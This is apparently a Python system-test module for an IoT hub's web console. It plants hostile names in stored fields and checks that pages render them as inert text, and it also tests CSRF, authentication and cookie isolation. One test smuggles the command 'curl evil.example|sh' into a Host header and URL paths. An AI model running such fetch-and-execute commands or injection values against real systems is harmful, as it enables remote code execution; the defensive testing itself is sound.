"""What strangers and devices may write into pages is text there, and what they may hold of the server is bounded."""

import contextlib
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from birthmark.webconsole.live_updates import MOST_OF_ONE
from support.console.browsers import Browser as Program
from support.console.consoles import PASSWORD, Place
from support.console.world import HOSTILE, PAGES, a_full_place
from support.floods.unauthenticated import insecure, tls
from support.server.servers import a_server

pytestmark = pytest.mark.system
FOREIGN = """() => ({
    scripts: [...document.scripts].filter((one) => !one.src.includes("/files/")).length,
    images: [...document.images].filter((one) => !one.src.includes("/files/")).length,
    handlers: [...document.querySelectorAll("*")].flatMap((one) => [...one.attributes])
        .filter((one) => one.name.startsWith("on")).length,
    styled: document.querySelectorAll("main [style]").length,
    alerted: window.alerted === true,
})"""
_NOBODY = 65534
NOTHING = {"scripts": 0, "images": 0, "handlers": 0, "styled": 0, "alerted": False}


@pytest.fixture(scope="module")
def planted(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """A server in which everything that may be called anything is called what hurts."""
    with a_server(tmp_path_factory.mktemp("planted")) as server:
        place = a_full_place(Place(server, chromium), tmp_path_factory.mktemp("devices"))
        plant(place)
        yield place


def plant(place: Place) -> None:
    """Write what hurts into whatever is stored; what is refused stands among the refusals then."""
    for name in HOSTILE:
        tried = (
            ("PATCH", "/hubs/birthmark/twins/pump-1", {"desired": {"key": name}, "tags": {"tag": name}}),
            ("PATCH", "/hubs/birthmark/twins/pump-2", {"desired": {name: "of a name"}}),
            ("POST", "/hubs/birthmark/mail/pump-1", {"text": name}),
            ("POST", "/hubs/birthmark/devices", {"device_id": name}),
            ("POST", "/est/users", {"name": name, "password": "four words by chance"}),
            ("POST", "/aws/keys", {"name": name}),
            ("POST", "/aws/templates", {"name": name, "body": "{}", "description": name}),
            ("POST", "/webhooks", {"name": name, "url": f"https://example.com/{name}"}),
            ("POST", "/alerts/silences", {"rule": "ca-ends", "lifetime_s": 3600, "reason": name, "subject": name}),
        )
        for method, path, body in tried:
            place.tried(method, path, body)
        browser = Program(place.url)
        browser.http.headers["User-Agent"] = re.sub(r"[^ -~]", "?", name)
        browser.sign_in(name, "a wrong password of somebody")
        refused(place, name)


def refused(place: Place, name: str) -> None:
    """Have a stranger refused who calls himself so, by MQTT."""
    client, user = (
        text.encode("utf-8", "replace")[:900]
        for text in (name, f"{place.server.address}/{name}/?api-version=2021-04-12")
    )
    body = b"\x00\x04MQTT\x04\x82\x00\x3c" + b"".join(struct.pack(">H", len(one)) + one for one in (client, user))
    with contextlib.suppress(OSError), tls(place.server, 8883, insecure()) as line:
        line.sendall(b"\x10" + bytes([len(body) % 128 | 128, len(body) // 128]) + body)
        line.settimeout(5)
        line.recv(64)


def test_names_that_hurt_are_text_on_every_page(planted: Place) -> None:
    with planted.operator() as visitor:
        visitor.expected.add("Failed to load resource")
        visitor.context.add_init_script("window.alert = () => { window.alerted = true; }")
        page = visitor.page()
        for path in [*PAGES, *planted.more]:
            visitor.go(page, path)
            page.wait_for_timeout(100)
            assert page.evaluate(FOREIGN) == NOTHING, path


def test_a_name_of_markup_is_read_as_it_was_written(planted: Place) -> None:
    with planted.operator() as visitor:
        page = visitor.page("/devices/pump-1")
        expect(page.locator("section:has(h2:has-text('Twin'))")).to_contain_text("日本語の名前")


def test_a_stranger_writes_no_command_onto_a_page(planted: Place) -> None:
    planned = "curl evil.example|sh"
    with tls(planted.server, 9443, insecure()) as line:
        line.sendall(f"GET /signin HTTP/1.1\r\nHost: x`{planned}`\r\n\r\n".encode())
        assert b"400" in line.recv(64)
    deadline = time.monotonic() + 20
    while not (found := [row for row in refusals_of(planted) if planned in row["cause"]]):
        assert time.monotonic() < deadline
        time.sleep(0.1)
    with planted.operator() as visitor:
        visitor.expected.add("Failed to load resource")
        page = visitor.page()
        for path in (
            f"/refusals/{found[0]['id']}",
            "/refusals",
            "/",
            f"/nowhere/``{planned}``",
            f"/devices/`{planned}`",
        ):
            visitor.go(page, path)
            assert planned not in page.locator(".fix code").all_inner_texts(), path


def test_a_browser_follows_so_often_and_no_more(planted: Place) -> None:
    planted.asked("POST", "/people/users", {"name": "many", "role": "viewer"})
    code = planted.asked("POST", "/people/users/many/invitation")["code"]
    program = Program(planted.url)
    program.submit("/invitation", code=code, password=PASSWORD, again=PASSWORD)
    cookies = "; ".join(f"{one.name}={one.value}" for one in program.http.cookies)
    host = planted.url.removeprefix("http://")
    held = []
    for _ in range(MOST_OF_ONE):
        sock = socket.create_connection((planted.server.address, 8080), timeout=10)
        sock.sendall(f"GET /live HTTP/1.1\r\nHost: {host}\r\nCookie: {cookies}\r\n\r\n".encode())
        assert sock.recv(64).startswith(b"HTTP/1.1 200")
        held.append(sock)
    assert program.get("/live").status_code == 429
    for sock in held:
        sock.close()


def test_a_reader_who_reads_nothing_keeps_nobody_waiting(planted: Place) -> None:
    with planted.operator() as visitor:
        page = visitor.page("/")
        cookies = "; ".join(f"{one['name']}={one['value']}" for one in visitor.context.cookies())
        host = planted.url.removeprefix("http://")
        dead = socket.create_connection((planted.server.address, 8080), timeout=10)
        dead.sendall(f"GET /live HTTP/1.1\r\nHost: {host}\r\nCookie: {cookies}\r\n\r\n".encode())
        planted.asked("POST", "/hubs/birthmark/devices", {"device_id": "beside-a-dead-reader"})
        expect(page.get_by_text("beside-a-dead-reader").first).to_be_visible(timeout=15_000)
        dead.close()


def test_pages_ask_for_nothing_elsewhere(planted: Place) -> None:
    with planted.operator() as visitor:
        visitor.expected.add("Failed to load resource")  # one of the pages is not there
        asked: list[str] = []
        visitor.context.on("request", lambda request: asked.append(request.url))
        page = visitor.page()
        for path in PAGES:
            visitor.go(page, path)
        assert [url for url in asked if not url.startswith((planted.url, "data:"))] == []


def test_whoever_is_not_signed_in_is_shown_nothing(planted: Place, tmp_path: Path) -> None:
    unauthenticated = Program(planted.url)
    for path in [*PAGES, *planted.more, "/live", "/find?begin=p", "/messages/birthmark/pump-1"]:
        answer = unauthenticated.get(path)
        assert (answer.status_code, "/signin" in answer.headers["location"]) == (303, True), path
    for path in ("/deed/method", "/deed/message", "/bulk", "/bulk/do", "/language"):
        assert unauthenticated.post(path, {"device": "pump-1", "hub": "birthmark"}).status_code == 303
    assert "pump-1" in json.dumps(planted.asked("GET", "/devices/pump-1"))


@pytest.mark.skipif(os.getuid() != 0, reason="becomes another user of the machine")
def test_a_cookie_that_another_user_of_the_machine_caught_opens_nothing(planted: Place) -> None:
    """Browsers send cookies to every port of a host, so also to one where another user listens."""
    program = Program(planted.url)
    program.submit("/open", code=planted.asked("POST", "/console/open")["path"].partition("#")[2])
    caught = "; ".join(f"{one.name}={one.value}" for one in program.http.cookies)
    asked = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", f"Cookie: {caught}"]
    for path, refused in (("/people", "303"), ("/operator/v1/people/users", "401")):
        told = [subprocess.check_output([*asked, planted.url + path], user=user, text=True) for user in (None, _NOBODY)]
        assert told == ["200", refused], path
    ending = caught.rpartition("_")[0] + f"_{_NOBODY}"
    forged = subprocess.check_output(
        [*asked[:-1], f"Cookie: {ending}", f"{planted.url}/people"], user=_NOBODY, text=True
    )
    assert forged == "303"


def test_a_form_of_another_site_does_nothing(planted: Place) -> None:
    code = planted.asked("POST", "/people/users/anna/invitation")["code"]
    anna = Program(planted.url)
    anna.submit("/invitation", code=code, password=PASSWORD, again=PASSWORD)
    fields = anna.fields("/devices/pump-2", "/deed/message") | {"text": "from elsewhere"}
    elsewhere = {"Sec-Fetch-Site": "cross-site", "Origin": "https://elsewhere.example"}
    assert anna.post("/deed/message", fields, **elsewhere).status_code == 403
    assert anna.post("/deed/message", fields | {"csrf": "x" * 86}).status_code == 403
    assert anna.post("/deed/message", fields).status_code == 303


def test_where_nothing_is_a_person_is_told_by_a_page_and_a_program_in_a_word(planted: Place) -> None:
    with planted.operator() as visitor:
        visitor.expected.add("Failed to load resource")
        page = visitor.page("/nowhere/at-all")
        expect(page.get_by_role("alert")).to_contain_text("The page /nowhere/at-all does not exist")
        expect(page.get_by_role("navigation", name="Pages")).to_be_visible()
    unauthenticated = Program(planted.url)
    assert (unauthenticated.get("/nowhere").status_code, unauthenticated.get("/nowhere").text) == (404, "Not Found")
    assert unauthenticated.get("/bulk").status_code == 405


def test_a_browser_that_does_not_trust_the_port_for_people_is_no_device_that_was_refused(planted: Place) -> None:
    for port in (9443, 8883):
        line = socket.create_connection((planted.server.address, port), timeout=10)
        with pytest.raises(ssl.SSLError):
            ssl.create_default_context().wrap_socket(line, server_hostname=planted.server.address)
    deadline = time.monotonic() + 20
    while not (found := refused_by_trust(planted)):
        assert time.monotonic() < deadline
        time.sleep(0.1)
    assert len(found) == 1  # that of the port of devices


def refusals_of(place: Place) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = place.asked("GET", "/refusals?limit=1000")["items"]
    return rows


def refused_by_trust(place: Place) -> list[str]:
    return [row["id"] for row in refusals_of(place) if row["code"] == "tls.server_not_trusted"]
